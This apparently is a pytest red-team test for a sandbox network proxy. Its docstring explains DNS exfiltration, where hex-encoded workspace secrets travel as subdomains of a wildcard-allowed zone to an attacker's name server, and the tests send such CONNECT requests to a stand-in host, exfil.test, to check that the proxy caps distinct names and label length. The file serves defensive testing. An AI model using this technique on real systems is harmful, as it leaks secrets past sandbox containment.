"""Red team round 37 (net): data sent out in the names a command asks the proxy for.

A command allowed a wildcard (``*.exfil.test``) may ask for any name under it; the proxy resolves
each on the host, so the host's resolver carries every name to the zone's name server, which the
attacker may own: ``<secret in hex>.exfil.test``, one CONNECT per chunk, sends the workspace out
past a sandbox with no route (round 36 left it). Now the names a proxy resolves only through a
wildcard are bounded per session: at most `MOST_WILDCARD_NAMES` distinct ones, each with at most
`MOST_WILDCARD_PART` characters under the pattern; past that it refuses before any lookup, saying
to list the name exactly. Names listed exactly, and a name asked again, are not counted. DNS is
outside the machine: a stand-in ``getaddrinfo`` records the names that reach it.
"""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from sandbox._wildnames import MOST_WILDCARD_NAMES, MOST_WILDCARD_PART
from tests._http_server import serve
from tests._proxy_client import proxy_talk, running_proxy


def _recording(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    real = socket.getaddrinfo
    asked: list[str] = []

    def resolver(host: object, port: object, *args: object, **kwargs: object) -> object:
        name = host.decode() if isinstance(host, bytes) else str(host)
        if name.rstrip(".").endswith(".exfil.test"):
            asked.append(name)  # the attacker's name server saw it
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return real(host, port, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    return asked


def test_distinct_names_under_a_wildcard_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = _recording(monkeypatch)
    secret = bytes(range(256)) * 4  # 1 KiB of the workspace
    chunks = [secret[i : i + 24].hex() for i in range(0, len(secret), 24)]  # 43 names of 48 hex
    chunks += [f"c{i}" for i in range(MOST_WILDCARD_NAMES * 2)]
    routes = {"/page": (200, {"Content-Type": "text/plain"}, b"the page\n")}
    with serve(routes) as srv, running_proxy(tmp_path, "*.exfil.test", "localhost") as p:
        answers = [proxy_talk(p, f"CONNECT {c}.exfil.test:443 HTTP/1.1\r\n\r\n".encode()) for c in chunks]
        again = proxy_talk(p, f"CONNECT {chunks[0]}.exfil.test:443 HTTP/1.1\r\n\r\n".encode())
        page = proxy_talk(p, f"GET http://localhost:{srv.server_port}/page HTTP/1.1\r\n\r\n".encode())
    distinct = set(asked)
    assert len(distinct) <= MOST_WILDCARD_NAMES, f"{len(distinct)} distinct names reached the resolver"
    refused = [a for a in answers if b"distinct names" in a]
    assert refused and all(a.startswith(b"HTTP/1.1 403") for a in refused), answers[-1][:300]
    assert b"--allow-domain" in refused[0], refused[0][:400]  # says what to do
    assert b"distinct names" not in again, again[:300]  # a name asked before is not counted again
    assert page.endswith(b"the page\n"), page[:300]  # a name listed exactly is never counted


def test_a_long_part_under_a_wildcard_never_reaches_the_resolver(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = _recording(monkeypatch)
    long_part = ".".join(["ab" * 30] * 3)  # 182 characters, three labels of 60
    with running_proxy(tmp_path, "*.exfil.test") as p:
        answer = proxy_talk(p, f"CONNECT {long_part}.exfil.test:443 HTTP/1.1\r\n\r\n".encode())
        short = proxy_talk(p, b"CONNECT raw.exfil.test:443 HTTP/1.1\r\n\r\n")
    assert not [a for a in asked if a.startswith("abab")], asked
    assert answer.startswith(b"HTTP/1.1 403") and str(MOST_WILDCARD_PART).encode() in answer, answer[:300]
    assert asked == ["raw.exfil.test"], asked  # an ordinary name under the pattern still goes
    assert b"cannot resolve" in short, short[:300]
